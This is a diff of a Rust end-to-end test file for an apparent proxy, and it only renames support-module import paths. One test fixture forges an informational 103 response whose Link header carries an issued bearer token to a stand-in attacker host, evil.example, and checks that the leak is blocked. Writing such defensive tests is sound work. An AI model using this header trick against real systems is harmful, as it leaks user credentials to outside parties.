@@ -1,7 +1,7 @@
 //! What a client is told when the downstream misbehaves, and what of its answers is passed on.
 
 use super::assert_own;
-use crate::support::{Answer, Ask, Client, Lab, Reply, answer, encoded, lab::ORDERS};
+use crate::e2e::support::{Answer, Ask, Client, Lab, Reply, answer, encoded, lab::ORDERS};
 use base64::{Engine, engine::general_purpose::STANDARD};
 use std::net::TcpListener;
 
@@ -144,13 +144,13 @@ async fn an_issued_token_in_an_informational_answer_is_a_blocked_leak() {
             format!("HTTP/1.1 103 Early Hints\r\nLink: <https://evil.example/{token}>\r\n\r\n");
         Reply::Send([early.into_bytes(), answer("200 OK", &[], "fine")].concat())
     });
-    let mut client = crate::support::Client::connect(lab.address()).await;
+    let mut client = crate::e2e::support::Client::connect(lab.address()).await;
     client
         .send(&Ask::get("/orders/1").bearer(&lab.token()).bytes())
         .await;
     let mut received = Vec::new();
     let reading = tokio::io::AsyncReadExt::read_to_end(&mut client.stream, &mut received);
-    tokio::time::timeout(crate::support::PATIENCE, reading)
+    tokio::time::timeout(crate::e2e::support::PATIENCE, reading)
         .await
         .unwrap()
         .unwrap();
